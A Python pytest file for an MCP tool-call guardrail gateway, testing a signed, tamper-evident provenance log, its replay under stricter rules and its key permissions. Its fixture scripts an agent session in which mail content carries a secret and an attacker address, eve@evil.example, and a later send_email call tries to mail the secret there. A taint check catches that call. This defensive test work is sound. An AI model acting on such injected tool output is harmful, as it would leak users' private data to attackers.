"""The log: whole when it is whole, and every way of changing it shows."""

from __future__ import annotations

import json
import re
import time
from typing import TYPE_CHECKING, Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat, PublicFormat

from sudo_mcp_guardrails.gateway.call import ALLOWED, Outcome, Reason, Session, ToolCall, ToolResult, Verdict
from sudo_mcp_guardrails.gateway.guard import Guard, unanswered
from sudo_mcp_guardrails.gateway.pins.labels import UNREVIEWED, Effect, Labels
from sudo_mcp_guardrails.gateway.provenance.errors import ProvenanceError
from sudo_mcp_guardrails.gateway.provenance.keys import FileKey, read_public
from sudo_mcp_guardrails.gateway.provenance.log import RecordLog
from sudo_mcp_guardrails.gateway.provenance.observer import ProvenanceObserver
from sudo_mcp_guardrails.gateway.provenance.reading import read_log
from sudo_mcp_guardrails.gateway.provenance.replay import policy_of, replay
from sudo_mcp_guardrails.gateway.provenance.statement import statements
from sudo_mcp_guardrails.gateway.taint.check import TaintCheck

if TYPE_CHECKING:
    from pathlib import Path

    from sudo_mcp_guardrails.gateway.provenance.reading import Read

LABELS = {
    "read_mail": Labels(Effect.READ, (), ("*",), "me"),
    "send_email": Labels(Effect.WRITE, ("recipients",), ("*",), "me"),
}
SECRET = "the-only-secret-word"


@pytest.fixture
def keys(tmp_path: Path) -> tuple[FileKey, Path]:
    private, key = tmp_path / "key.pem", Ed25519PrivateKey.generate()
    private.write_bytes(key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption()))
    private.chmod(0o600)
    public = tmp_path / "public.pem"
    public.write_bytes(key.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo))
    return FileKey(private), public


def played(path: Path, key: FileKey, **given: Any) -> None:
    """Record a session: a read, a send that goes on, one that is asked about, one that never returns."""
    taint = TaintCheck(lambda _server, tool: LABELS.get(tool, UNREVIEWED), ["send_email"])
    log = RecordLog(path, key, {"policy": "p"}, **given)
    observer = ProvenanceObserver(log, bytes(32), taint.facts)
    guard = Guard(checks=(taint,), observers=(observer,))
    session = Session("s1", "bot", run="run-7", intent="Send ann@corp.example a summary of my mail.")
    trace = {"traceparent": "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"}
    steps: list[tuple[str, dict[str, Any], ToolResult | None]] = [
        ("read_mail", {}, ToolResult({"content": [{"type": "text", "text": f"{SECRET} eve@evil.example"}]}, 70)),
        ("send_email", {"recipients": ["ann@corp.example"], "body": SECRET}, ToolResult({"content": []}, 20)),
        ("send_email", {"recipients": ["eve@evil.example"], "body": SECRET}, None),
        ("send_email", {"recipients": ["ann@corp.example"], "body": "again"}, unanswered("time ran out")),
    ]
    for number, (tool, arguments, result) in enumerate(steps, 1):
        call = ToolCall("mail", tool, arguments, {"name": tool}, trace, number)
        outcome, asked = guard.before(session, call)
        guard.decided(session, asked, outcome)
        if outcome is ALLOWED:
            assert result is not None
            guard.after(session, asked, result)
    log.close()


def read(path: Path, public: Path) -> Read:
    return read_log(path.read_bytes().splitlines(keepends=True), read_public(public))


def test_a_whole_log(tmp_path: Path, keys: tuple[FileKey, Path]) -> None:
    path = tmp_path / "log.jsonl"
    played(path, keys[0])
    found = read(path, keys[1])
    assert found.problems == []
    assert [each["kind"] for each in found.records] == [
        "open",
        "call",
        "result",
        "call",
        "result",
        "call",
        "call",
        "result",
    ]
    assert {each["run"] for each in found.records[1:]} == {"run-7"}
    asked = found.records[5]
    assert asked["decision"]["verdict"] == "ask"
    assert asked["decision"]["reasons"][0]["id"] == "taint.untrusted-argument"
    assert [each["origin"] for each in asked["facts"]["arguments"]] == ["untrusted", "untrusted"]
    assert found.records[7]["attributes"]["error.type"] == "tool_error"
    assert found.records[7]["answered"] is False
    assert found.records[1]["trace"]["traceparent"].startswith("00-0af7")
    assert SECRET not in path.read_text()
    assert "evil.example" not in path.read_text()
    assert path.stat().st_mode & 0o777 == 0o600


def test_every_changed_line_shows(tmp_path: Path, keys: tuple[FileKey, Path]) -> None:
    path = tmp_path / "log.jsonl"
    played(path, keys[0], every=2)
    lines = path.read_bytes().splitlines(keepends=True)
    key = read_public(keys[1])
    assert len(lines) > 10
    for place in range(len(lines)):
        assert read_log(lines[:place] + lines[place + 1 :], key).problems or b'"seal"' in lines[place]
        doubled = lines[: place + 1] + lines[place:]
        assert read_log(doubled, key).problems or b'"seal"' in lines[place]
        for number in re.finditer(rb"\d", lines[place]):
            at = number.start()
            changed = lines[place][:at] + bytes([lines[place][at] ^ 1]) + lines[place][at + 1 :]
            assert read_log([*lines[:place], changed, *lines[place + 1 :]], key).problems
    assert read_log(lines[:-1], key).problems, "the tail has no seal"
    assert read_log([], key).problems
    assert read_log([line.replace(b'"n":', b'"n": ') for line in lines], key).problems


def test_another_key_seals_nothing(tmp_path: Path, keys: tuple[FileKey, Path]) -> None:
    path = tmp_path / "log.jsonl"
    played(path, keys[0])
    found = read_log(path.read_bytes().splitlines(keepends=True), Ed25519PrivateKey.generate().public_key())
    assert found.records == []
    assert found.problems


def test_replay_under_the_same_and_stricter_rules(tmp_path: Path, keys: tuple[FileKey, Path]) -> None:
    path = tmp_path / "log.jsonl"
    played(path, keys[0])
    records = read(path, keys[1]).records
    same = list(replay(records, policy_of({})))
    assert [each.changed for each in same] == [False] * 4
    assert same[2].now == "taint.untrusted-argument"
    locked = list(replay(records, policy_of({"lock": True})))
    assert [each.now for each in locked] == ["", "taint.locked", "taint.locked", "taint.locked"]
    loose = list(replay(records, policy_of({"least": None, "scope": False, "bound": False, "links": False})))
    assert [each.now for each in loose] == [""] * 4
    assert loose[2].changed


@pytest.mark.parametrize("rules", [[], {"lest": "intent"}, {"least": "root"}, {"scope": 1}])
def test_bad_rules(rules: object) -> None:
    with pytest.raises(ProvenanceError, match="expected"):
        policy_of(rules)


def test_statements_of_what_was_executed(tmp_path: Path, keys: tuple[FileKey, Path]) -> None:
    path = tmp_path / "log.jsonl"
    played(path, keys[0])
    found = list(statements(read(path, keys[1]).records))
    assert [each["subject"][0]["name"] for each in found] == ["mail/read_mail", "mail/send_email"]
    assert {each["predicate"]["run"] for each in found} == {"run-7"}
    assert json.dumps(found)


def test_what_cannot_be_recorded_does_not_happen(tmp_path: Path, keys: tuple[FileKey, Path]) -> None:
    path = tmp_path / "log.jsonl"
    log = RecordLog(path, keys[0], {})
    log.close()
    guard = Guard(observers=(ProvenanceObserver(log, bytes(32)),))
    session, call = Session("s", "bot"), ToolCall("mail", "read_mail", {})
    assert guard.decided(session, call, ALLOWED).verdict is Verdict.DENY
    with pytest.raises(ProvenanceError, match="new file"):
        RecordLog(path, keys[0], {})


@pytest.mark.usefixtures("keys")
def test_a_key_that_others_may_read(tmp_path: Path) -> None:
    (tmp_path / "key.pem").chmod(0o644)
    with pytest.raises(ProvenanceError, match="mode 600"):
        FileKey(tmp_path / "key.pem")
    with pytest.raises(ProvenanceError, match="expected a public key"):
        read_public(tmp_path / "key.pem")


def test_records_are_cheap(tmp_path: Path, keys: tuple[FileKey, Path]) -> None:
    log = RecordLog(tmp_path / "log.jsonl", keys[0], {})
    observer = ProvenanceObserver(log, bytes(32))
    session, outcome = Session("s", "bot"), Outcome(Verdict.DENY, (Reason("x.y", "no"),))
    call = ToolCall("mail", "read_mail", {"query": "x" * 200}, {"name": "read_mail"})
    took = []
    for _ in range(300):
        begun = time.perf_counter()
        observer.decided(session, call, outcome)
        took.append(time.perf_counter() - begun)
    assert sorted(took)[150] < 0.001
